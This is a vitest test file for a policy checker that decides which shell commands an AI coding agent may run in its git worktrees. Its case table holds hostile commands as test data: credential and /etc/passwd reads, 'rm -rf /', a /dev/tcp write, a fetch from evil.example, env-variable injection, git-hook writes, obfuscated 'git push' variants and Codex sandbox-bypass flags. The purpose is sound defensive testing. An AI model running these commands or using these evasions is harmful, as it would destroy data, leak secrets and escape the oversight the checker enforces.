import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkCommand, RULES } from '../../src/tools/run-repo-command/policy/index.js';
import { defaultPolicyPath, loadPolicy, parsePolicy, type Policy } from '../../src/tools/run-repo-command/policy-file.js';

let base: string;
let policy: Policy;
let outside: string;

beforeAll(() => {
  base = fs.mkdtempSync(path.join(os.tmpdir(), 'guard-base-'));
  outside = fs.mkdtempSync(path.join(os.tmpdir(), 'guard-outside-'));
  fs.writeFileSync(path.join(outside, 'secret.txt'), 'secret\n');
  fs.mkdirSync(path.join(outside, 'sub'));
  for (const wt of ['main', 'task-a']) {
    fs.mkdirSync(path.join(base, wt, 'src'), { recursive: true });
    fs.mkdirSync(path.join(base, wt, '.git'), { recursive: true });
    fs.writeFileSync(path.join(base, wt, 'src', 'a.ts'), 'x\n');
    fs.writeFileSync(path.join(base, wt, 'script.js'), '1\n');
    fs.writeFileSync(path.join(base, wt, 'script.py'), '1\n');
  }
  // Symlinks inside the base dir.
  for (const wt of ['main', 'task-a']) {
    fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(base, wt, 'leak.txt'));
    fs.symlinkSync(path.join(outside, 'sub'), path.join(base, wt, 'outdir'));
    fs.symlinkSync(path.join(base, wt, 'src'), path.join(base, wt, 'srclink'));
    fs.mkdirSync(path.join(base, wt, 'lib'));
    fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(base, wt, 'lib', 'zz-secret.ts'));
    fs.writeFileSync(
      path.join(base, wt, 'package.json'),
      JSON.stringify({ scripts: { test: 'vitest', build: 'tsc', lint: 'eslint .', bench: 'tsx bench/run.ts' } }),
    );
  }
  fs.symlinkSync(outside, path.join(base, 'escape-wt'));
  fs.mkdirSync(path.join(base, 'task-g'));
  fs.writeFileSync(path.join(base, 'task-g', '--output=x'), '');
  policy = loadPolicy(defaultPolicyPath());
});

afterAll(() => {
  fs.rmSync(base, { recursive: true, force: true });
  fs.rmSync(outside, { recursive: true, force: true });
});

// Model edits happen in task worktrees; main/ has its own table below.
const check = (command: string, worktree = 'task-a', p: Policy = policy) =>
  checkCommand({ worktree, command }, { baseDir: base, policy: p });

// [command, expected rule (null = allowed)]
const CASES: Array<[string, string | null]> = [
  // --- legitimate commands
  ['git status', null],
  ['git log --oneline | head -5', null],
  ['git log --oneline -n 20', null],
  ['git diff HEAD~1 -- src', null],
  ['git diff main...HEAD --stat', null],
  ['git show HEAD:src/a.ts', null],
  ['git add -A && git commit -m "feat: add search"', null],
  ['git add src/*.ts', null],
  ['git commit -m "$(cat msg.txt)"', null],
  ["git commit -m 'never git push'", null],
  ['git -c user.name=x commit -m m', null],
  ['git -c user.email=a@b -c color.ui=false log', null],
  ['git -c core.quotepath=off status', null],
  ['git --no-pager log -1', null],
  ['git -C src status', null],
  ['git branch', null],
  ['git branch -d task-old', null],
  ['git branch -d old', 'git-denied'],
  ['git branch feature/x', null],
  ['git checkout -b task/x', null],
  ['git switch main', null],
  ['git restore --staged src/a.ts', null],
  ['git merge --no-ff task-a', null],
  ['git merge --abort', null],
  ['git fetch', null],
  ['git fetch origin', null],
  ['git pull --ff-only', null],
  ['git pull --ff-only origin main', null],
  ['git stash', null],
  ['git stash push -m wip', null],
  ['git stash pop', null],
  ['git stash list', null],
  ['git tag v1.0', null],
  ['git rev-parse HEAD', null],
  ['git rev-list --count HEAD', null],
  ['git ls-files', null],
  ['git merge-base main HEAD', null],
  ['git cherry-pick abc123', null],
  ['git revert --no-edit HEAD', null],
  ['git rm --cached x', null],
  ['git mv a b', null],
  ['git grep -n foo', null],
  ['git blame src/a.ts', null],
  ['git shortlog -sn', null],
  ['git describe --tags', null],
  ['git cat-file -p HEAD', null],
  ['git config --get user.name', null],
  ['git config --list', null],
  ['git config --get-all remote.origin.url', null],
  ['git worktree list', null],
  ['git worktree add ../task-b -b task-b', 'git-denied'],
  ['git worktree remove ../task-a', 'git-denied'],
  ['git worktree prune', null],
  ['git worktree move ../task-a ../task-c', 'git-denied'],
  ['git --version', null],
  ['"git" status', null],
  ["g'i't status", null],
  ['git stat\\us', null],
  ['echo "$(git rev-parse HEAD)"', null],
  ["echo 'git push'", null],
  ['echo "git push --force"', null],
  ['echo $HOME', null],
  ['codex exec --full-auto "never run git push"', null],
  ['codex exec --sandbox workspace-write "do X"', null],
  ['codex exec resume --last "continue"', 'codex'],
  ['codex exec resume 0199-thread "continue"', null],
  ['codex exec -c model=gpt-5 "x"', null],
  ['codex -m gpt-5 exec "x"', 'codex'],
  ['codex exec -m gpt-5 "x"', null],
  ['npm test', null],
  ['npm run build', null],
  ['npm run test -- --grep users', null],
  ['npm t', null],
  ['yarn test', null],
  ['yarn build', null],
  ['yarn run lint', null],
  ['pnpm test', null],
  ['pnpm run build', null],
  ['FOO=1 npm test', 'env-assign'],
  ['NODE_ENV=test yarn test', null],
  ['CI=true yarn test', null],
  ['node script.js', null],
  ['node script.js --eval x', null],
  ['node --test', null],
  ['node --version', null],
  ['python3 script.py', null],
  ['python -m pytest -q', null],
  ['python3 -m unittest discover -s src', null],
  ['pytest -q src', null],
  ['make test', null],
  ['make -j4 build', null],
  ['tsc --noEmit -p tsconfig.json', null],
  ['vitest run', null],
  ['jest --ci', null],
  ['cargo test', null],
  ['cargo test --release', null],
  ['go test ./...', null],
  ['ls', null],
  ['ls -la src', null],
  ['ls > /dev/null', null],
  ['ls 2>/dev/null', null],
  ['ls 2>&1 | head', null],
  ['cat src/a.ts', null],
  ['cat src/*.ts', null],
  ['cat srclink/a.ts', null],
  ['head -n 5 src/a.ts', null],
  ['head -5 src/a.ts', null],
  ['tail -n +2 src/a.ts', null],
  ['wc -l src/a.ts', null],
  ['grep -rn "TODO" src', null],
  ['grep -e /etc/passwd src/a.ts', null],
  ['grep "/usr/bin" src/a.ts', null],
  ['rg -n foo src', null],
  ['rg --glob "*.ts" foo', null],
  ['find . -name "*.ts"', null],
  ['find src -type f -newer src/a.ts', null],
  ['diff src/a.ts script.js', null],
  ['pwd', null],
  ['true', null],
  ['test -f src/a.ts', null],
  ['echo hi > out.txt', null],
  ['echo hi >> src/log.txt', null],
  ['cat < src/a.ts', null],
  ['(git status; git log -1) | cat', null],
  ['{ git status; } 2>/dev/null', null],
  ['git status # && git push', null],
  ['git status\ngit log -1', null],
  ['! git diff --quiet', null],
  ['cat <<EOF\nhello\nEOF', null],
  ['git status || true', null],
  ['git log --format=%H -1', null],
  ['git log HEAD~3..HEAD', null],
  ['git diff --output=diff.txt', null],

  // --- rule 2/3: chaining, substitution, dynamic command words
  ['git status && git -c x.y=1 push origin main', 'git-config'],
  ['git status && git push origin main', 'git-hard-block'],
  ['git status; git push', 'git-hard-block'],
  ['git status | git push', 'git-hard-block'],
  ['(git push)', 'git-hard-block'],
  ['{ git push; }', 'git-hard-block'],
  ['echo "$(git push)"', 'git-hard-block'],
  ['echo `git push`', 'git-hard-block'],
  ['echo $(echo $(git push))', 'git-hard-block'],
  ['echo ${X:-$(git push)}', 'git-hard-block'],
  ['cat <<EOF\n$(git push)\nEOF', 'git-hard-block'],
  ['cat <<<"$(git push)"', 'git-hard-block'],
  ['FOO=$(git push) npm test', 'git-hard-block'],
  ['ls > "$(git push)"', 'git-hard-block'],
  ['$(echo git) push', 'dynamic'],
  ['`echo git` push', 'dynamic'],
  ['git $X', 'dynamic'],
  ['git "$SUB"', 'dynamic'],
  ['git ${X}', 'dynamic'],
  ['$GIT push', 'dynamic'],
  ['g${X}it push', 'dynamic'],
  ['gi? push', 'dynamic'],
  ['{git,push}', 'dynamic'],
  ['git {push,status}', 'dynamic'],
  ['git pu*', 'dynamic'],
  ['\\git push', 'git-hard-block'],
  ['"git" push', 'git-hard-block'],
  ["g'i't push", 'git-hard-block'],
  ['git pu\\sh', 'git-hard-block'],
  ["git 'push'", 'git-hard-block'],
  ["git $'\\x70ush'", 'git-hard-block'],
  ['git pu""sh', 'git-hard-block'],
  ['git status &', 'background'],
  ['git status & git log', 'background'],
  ['cat <(git push)', 'dynamic'],
  ['diff <(ls) <(ls)', 'dynamic'],
  ['echo $((1+2))', 'dynamic'],
  ['echo ${a[$(id)]}', 'dynamic'],
  ['echo ${!x}', 'dynamic'],
  ['echo ${x@P}', 'dynamic'],
  ['echo ${x:=1}', 'dynamic'],
  ['if true; then git status; fi', 'parse'],
  ['for f in a b; do cat $f; done', 'parse'],
  ['while true; do ls; done', 'parse'],
  ['f() { git push; }; f', 'parse'],
  ['coproc git status', 'parse'],
  ['[[ -f x ]]', 'parse'],
  ['git status &&', 'parse'],
  ['echo "unterminated', 'parse'],
  ['(git status', 'parse'],
  ['', 'parse'],
  ['git status\u0000', 'parse'],
  ['time git status', 'wrapper'],
  ['sh -c "git push"', 'wrapper'],
  ["bash -c 'git status'", 'wrapper'],
  ['zsh -c ls', 'wrapper'],
  ['env git push', 'wrapper'],
  ['env', 'wrapper'],
  ['command git status', 'wrapper'],
  ['builtin echo x', 'wrapper'],
  ['eval "git push"', 'wrapper'],
  ['exec git status', 'wrapper'],
  ['source ./x.sh', 'wrapper'],
  ['. ./x.sh', 'wrapper'],
  ['xargs git push', 'wrapper'],
  ['echo push | xargs git', 'wrapper'],
  ['nohup git status', 'wrapper'],
  ['nice git status', 'wrapper'],
  ['timeout 5 git status', 'wrapper'],
  ['watch git status', 'wrapper'],
  ['script -c ls', 'wrapper'],
  ['sudo ls', 'wrapper'],
  ['npx vitest', 'wrapper'],
  ['cat <<EOF | sh\ngit push\nEOF', 'wrapper'],

  // --- env assignments
  ['GIT_DIR=x git status', 'env-assign'],
  ['GIT_SSH_COMMAND=x git fetch', 'env-assign'],
  ['GIT_CONFIG_COUNT=1 git status', 'env-assign'],
  ['PATH=/tmp git status', 'env-assign'],
  ['LD_PRELOAD=x.so ls', 'env-assign'],
  ['NODE_OPTIONS=--require=x npm test', 'env-assign'],
  ['npm_config_script_shell=x npm test', 'env-assign'],
  ['HOME=/tmp git status', 'env-assign'],
  ['PAGER=x git log', 'env-assign'],
  ['X=1', 'env-assign'],
  ['X=1; git status', 'env-assign'],

  // --- programs
  ['/usr/bin/git status', 'program'],
  ['./git status', 'program'],
  ['rm -rf /', 'program'],
  ['curl http://x', 'program'],
  ['wget x', 'program'],
  ['ssh host', 'program'],
  ['chmod +x a', 'program'],
  ['kill 1', 'program'],
  ['cd .. && ls', 'program'],
  ['export X=1', 'program'],
  ['tee out', 'program'],
  ['cargo build', 'program'],
  ['go run .', 'program'],
  ['test -v "a[$(git push)]"', 'git-hard-block'],
  ["test -v 'a[1]'", 'program'],

  // --- git
  ['git push', 'git-hard-block'],
  ['git push --force origin main', 'git-hard-block'],
  ['git remote -v', null],
  ['git remote add x y', 'git-hard-block'],
  ['git reset --hard', 'git-hard-block'],
  ['git reset HEAD~1', 'git-hard-block'],
  ['git rebase main', 'git-hard-block'],
  ['git filter-branch', 'git-hard-block'],
  ['git send-email x', 'git-hard-block'],
  ['git update-ref refs/heads/main HEAD~1', 'git-hard-block'],
  ['git clone /x', 'git-hard-block'],
  ['git ls-remote origin', 'git-hard-block'],
  ['git credential fill', 'git-hard-block'],
  ['git credential-store get', 'git-hard-block'],
  ['git --no-pager push', 'git-hard-block'],
  ['git -p push', 'git-hard-block'],
  ['git -c user.name=x push', 'git-hard-block'],
  ['git clean -fdx', 'git-denied'],
  ['git gc --prune=now', 'git-denied'],
  ['git reflog expire --all', 'git-denied'],
  ['git submodule add x', 'git-denied'],
  ['git archive --remote=x HEAD', 'git-denied'],
  ['git symbolic-ref HEAD refs/heads/x', 'git-denied'],
  ['git frobnicate', 'git-subcommand'],
  ['git help', 'git-subcommand'],
  ['git branch -D x', 'git-denied'],
  ['git branch -dD x', 'git-denied'],
  ['git branch -d -f x', 'git-denied'],
  ['git branch --delete --force x', 'git-denied'],
  ['git branch -f main HEAD~3', 'git-denied'],
  ['git branch -M x', 'git-denied'],
  ['git stash drop', 'git-denied'],
  ['git stash clear', 'git-denied'],
  ['git tag -d v1', 'git-denied'],
  ['git tag -f v1', 'git-denied'],
  ['git checkout -B main', 'git-denied'],
  ['git switch -C main', 'git-denied'],
  ['git pull', 'git-denied'],
  ['git pull origin main', 'git-denied'],
  ['git pull --ff-only --rebase', 'git-denied'],
  ['git fetch /etc/repo', 'git-denied'],
  ['git fetch https://evil.example/x', 'git-denied'],
  ['git fetch origin +main:main', 'git-denied'],
  ['git fetch --upload-pack=x origin', 'git-denied'],
  ['git grep -O foo', 'git-denied'],
  ['git grep --open-files-in-pager=vim foo', 'git-denied'],
  ['git apply --unsafe-paths x.patch', 'git-denied'],
  ['git config user.name x', 'git-config'],
  ['git config --global user.name x', 'git-config'],
  ['git config --add x.y z', 'git-config'],
  ['git config --unset user.name', 'git-config'],
  ['git config -e', 'git-config'],
  ['git config core.hooksPath /tmp', 'git-config'],
  ['git -c core.sshCommand=x fetch', 'git-config'],
  ['git -c core.hooksPath=/tmp commit -m x', 'git-config'],
  ['git -c alias.st=!sh status', 'git-config'],
  ['git -c core.fsmonitor=x status', 'git-config'],
  ['git -c core.pager=x log', 'git-config'],
  ['git -c diff.external=x diff', 'git-config'],
  ['git -c credential.helper=x fetch', 'git-config'],
  ['git -c url.x.insteadOf=y fetch', 'git-config'],
  ['git -c protocol.ext.allow=always fetch', 'git-config'],
  ['git -c filter.x.clean=y add .', 'git-config'],
  ['git -c core.editor=x commit', 'git-config'],
  ['git --config-env=core.pager=X log', 'git-global'],
  ['git --git-dir=x status', 'git-global'],
  ['git --git-dir x status', 'git-global'],
  ['git --work-tree=/ status', 'git-global'],
  ['git --exec-path=/tmp status', 'git-global'],
  ['git -C /tmp status', 'git-global'],
  ['git -C .. status', 'git-global'],
  ['git -C ../main status', 'git-global'],
  ['git -C outdir status', 'git-global'],
  ['git --frob status', 'git-global'],
  ['git worktree add /tmp/x', 'git-denied'],
  ['git worktree add ../../x', 'git-denied'],
  ['git worktree remove /tmp/x', 'git-denied'],
  ['git worktree move ../task-a /tmp/y', 'git-denied'],
  ['git worktree lock x', 'git-subcommand'],
  ['git log --output=/tmp/x', 'path'],
  ['git diff --output=.git/config', 'path'],
  ['git diff /etc/passwd /dev/null', 'path'],
  ['git diff --no-index ../../etc/passwd x', 'path'],
  ['git commit -F /etc/passwd', 'path'],
  ['git log $(echo --output=/tmp/x)', 'dynamic'],
  ['git status ~', 'path'],

  // --- codex
  ['codex exec --sandbox danger-full-access "x"', 'codex'],
  ['codex exec -s danger-full-access "x"', 'codex'],
  ['codex exec --sandbox=danger-full-access "x"', 'codex'],
  ['codex -s danger-full-access exec "x"', 'codex'],
  ['codex exec -c \'sandbox_mode="danger-full-access"\' x', 'codex'],
  ['codex exec --dangerously-bypass-approvals-and-sandbox x', 'codex'],
  ['codex exec "x" --sandbox danger-full-access', 'codex'],
  ['codex exec -c mcp_servers.x.command=sh x', 'codex'],
  ['codex login', 'codex'],
  ['codex logout', 'codex'],
  ['codex mcp list', 'codex'],
  ['codex cloud', 'codex'],
  ['codex apply', 'codex'],
  ['codex', 'codex'],
  ['codex exec x && git status', 'codex'],
  ['git status && codex exec x', 'codex'],
  ['codex exec x | cat', 'codex'],
  ['codex exec x > out.txt', 'codex'],
  ['echo "$(codex exec x)"', 'codex'],
  ['CI=1 codex exec x', 'codex'],
  ['codex exec "$(cat prompt.md)"', 'codex'],
  ["codex exec $'x'$X", 'dynamic'],
  ['codex exec -C /tmp x', 'codex'],
  ['codex exec --add-dir /etc x', 'codex'],
  ['codex exec -p danger x', 'codex'],

  // --- package managers
  ['npm i lodash', 'package-manager'],
  ['npm install', 'package-manager'],
  ['npm add x', 'package-manager'],
  ['npm uninstall x', 'package-manager'],
  ['npm update', 'package-manager'],
  ['npm ci', 'package-manager'],
  ['npm exec vitest', 'package-manager'],
  ['npm x vitest', 'package-manager'],
  ['npm publish', 'package-manager'],
  ['npm --prefix /tmp test', 'path'],
  ['npm test --script-shell=sh', 'package-manager'],
  ['npm --node-options=--require=/tmp/x test', 'package-manager'],
  ['npm -g install x', 'package-manager'],
  ['yarn', 'package-manager'],
  ['yarn --frozen-lockfile', 'package-manager'],
  ['yarn add lodash', 'package-manager'],
  ['yarn remove x', 'package-manager'],
  ['yarn upgrade', 'package-manager'],
  ['yarn install', 'package-manager'],
  ['yarn dlx x', 'package-manager'],
  ['yarn publish', 'package-manager'],
  ['yarn node -e 1', 'package-manager'],
  ['yarn exec ls', 'package-manager'],
  ['yarn workspace a add x', 'package-manager'],
  ['yarn --cwd /tmp test', 'path'],
  ['pnpm add x', 'package-manager'],
  ['pnpm install', 'package-manager'],
  ['pnpm dlx x', 'package-manager'],
  ['pnpm update', 'package-manager'],
  ['pnpm remove x', 'package-manager'],
  ['pnpm exec x', 'package-manager'],
  ['npm test -- --outDir /tmp/x', 'path'],

  // --- interpreters
  ['node -e 1', 'interpreter'],
  ['node --eval "require(1)"', 'interpreter'],
  ['node -p 1', 'interpreter'],
  ['node -pe 1', 'interpreter'],
  ['node --print 1', 'interpreter'],
  ['node -r x script.js', 'interpreter'],
  ['node --require=x script.js', 'interpreter'],
  ['node --import x script.js', 'interpreter'],
  ['node --loader x script.js', 'interpreter'],
  ['node --inspect script.js', 'interpreter'],
  ['node', 'interpreter'],
  ['node -', 'interpreter'],
  ['echo "1" | node', 'interpreter'],
  ['node /tmp/x.js', 'interpreter'],
  ['node ../../x.js', 'interpreter'],
  ['node leak.txt', 'interpreter'],
  ['python -c "import os"', 'interpreter'],
  ['python3 -c 1', 'interpreter'],
  ['python3 -uc 1', 'interpreter'],
  ['python3 -m http.server', 'interpreter'],
  ['python3 -mhttp.server', 'interpreter'],
  ['python3 -m pip install x', 'interpreter'],
  ['python3', 'interpreter'],
  ['python3 /tmp/x.py', 'interpreter'],
  ['python3 - < script.py', 'interpreter'],
  ['pytest --basetemp=/home/x', 'path'],
  ['pytest /etc', 'path'],
  ['python -m pytest --rootdir /tmp', 'path'],
  ['tsc --outDir /tmp/x', 'path'],
  ['make -C /tmp', 'path'],
  ['make SHELL=/bin/evil', 'program'],
  ['make --eval=x', 'program'],
  ['go test -exec x ./...', 'program'],
  ['cargo test --config x', 'program'],

  // --- find
  ['find . -name x -exec rm {} \\;', 'find'],
  ['find . -execdir rm {} +', 'find'],
  ['find . -delete', 'find'],
  ['find . -ok rm {} \\;', 'find'],
  ['find . -fprint /tmp/x', 'find'],
  ['find . -fprintf x %p', 'find'],
  ['find -L .', 'find'],
  ['find . -follow', 'find'],
  ['find / -name x', 'path'],
  ['find ../.. -name x', 'path'],
  ['find . -newer /etc/passwd', 'path'],

  // --- paths and redirects
  ['cat ../../etc/passwd', 'path'],
  ['cat /etc/passwd', 'path'],
  ['cat ~/.ssh/id_rsa', 'path'],
  ['cat ~', 'path'],
  ['ls ~root', 'path'],
  ['cat leak.txt', 'path'],
  ['cat outdir/x', 'path'],
  ['cat srclink/../leak.txt', 'path'],
  ['cat outdir/../secret.txt', 'path'],
  ['cat lib/*', 'path'],
  ['cat lib/*.ts', 'path'],
  ['cat l*k.txt', 'path'],
  ['head /etc/hosts', 'path'],
  ['tail -f /var/log/syslog', 'path'],
  ['wc -l /etc/passwd', 'path'],
  ['ls /', 'path'],
  ['ls ..', null],
  ['ls ../..', 'path'],
  ['grep root /etc/passwd', 'path'],
  ['grep -f /etc/passwd src', 'path'],
  ['grep --file=/etc/passwd src', 'path'],
  ['grep --fil=/etc/passwd src', 'path'],
  ['grep -R x .', 'path'],
  ['rg foo /etc', 'path'],
  ['rg --files /etc', 'path'],
  ['rg --pre cat foo', 'path'],
  ['rg -L foo', 'path'],
  ['diff /etc/passwd src/a.ts', 'path'],
  ['cat "$F"', 'dynamic'],
  ['cat $(echo /etc/passwd)', 'dynamic'],
  ['ls > /tmp/x', 'redirect'],
  ['ls >> ~/x', 'redirect'],
  ['ls 2> /etc/x', 'redirect'],
  ['ls &> /tmp/x', 'redirect'],
  ['cat < /etc/passwd', 'redirect'],
  ['echo x > leak.txt', 'redirect'],
  ['echo x > outdir/y', 'redirect'],
  ['echo x > .git/config', 'redirect'],
  ['echo x >> .git/hooks/pre-commit', 'redirect'],
  ['echo x > "$F"', 'redirect'],
  ['echo x > /dev/tcp/1.2.3.4/80', 'redirect'],
  ['echo x > /dev/stdout', 'redirect'],
  ['echo x {fd}> f', 'redirect'],
  ['(ls) > /tmp/x', 'redirect'],
  ['echo x > *.ts', 'redirect'],
];

describe('checkCommand table', () => {
  it('has well over 150 cases and known rule ids', () => {
    expect(CASES.length).toBeGreaterThan(150);
    for (const [, rule] of CASES) if (rule !== null) expect(RULES).toContain(rule);
  });
  it.each(CASES)('%j → %s', (command, rule) => {
    const d = check(command);
    expect({ command, allowed: d.allowed, rule: d.rule, reason: d.reason }).toMatchObject({ allowed: rule === null, rule });
    if (rule !== null) expect(d.reason).toContain(rule);
  });
});

describe('worktree rule', () => {
  it.each([
    ['', 'empty'],
    ['/abs', 'absolute'],
    ['a/b', 'separator'],
    ['..', 'dotdot'],
    ['.', 'dot'],
    ['x..y', 'contains ..'],
    ['missing', 'does not exist'],
    ['escape-wt', 'symlink outside'],
  ])('denies worktree %j (%s)', (worktree) => {
    const d = check('git status', worktree);
    expect(d.allowed).toBe(false);
    expect(d.rule).toBe('worktree');
  });
  it('allows an existing worktree', () => {
    expect(check('git status', 'task-a').allowed).toBe(true);
  });
});

describe('glob expansion', () => {
  it('denies a glob that expands to an option-looking file name', () => {
    const d = check('git add *', 'task-g');
    expect(d.allowed).toBe(false);
    expect(d.rule).toBe('path');
  });
});

describe('codex decisions', () => {
  it('returns codexArgs for a lone codex exec', () => {
    const d = check('codex exec --full-auto "do X"');
    expect(d).toMatchObject({ allowed: true, rule: null, codexArgs: ['exec', '--full-auto', 'do X'] });
  });
  it('danger-full-access is allowed only when the policy enables it', () => {
    const p = parsePolicy({ ...JSON.parse(fs.readFileSync(defaultPolicyPath(), 'utf8')), allowDangerFullAccess: true });
    expect(check('codex exec --sandbox danger-full-access "x"', 'task-a', p).allowed).toBe(true);
    expect(check('codex exec --dangerously-bypass-approvals-and-sandbox "x"', 'task-a', p).allowed).toBe(true);
  });
  it('non-codex allowed lines carry no codexArgs', () => {
    expect(check('git status').codexArgs).toBeUndefined();
  });
});

describe('policy switches', () => {
  it('git clean is allowed only with allowGitClean', () => {
    const p = parsePolicy({ ...JSON.parse(fs.readFileSync(defaultPolicyPath(), 'utf8')), allowGitClean: true });
    expect(check('git clean -fd', 'task-a', p).allowed).toBe(true);
    expect(check('git clean -fd').rule).toBe('git-denied');
  });
});
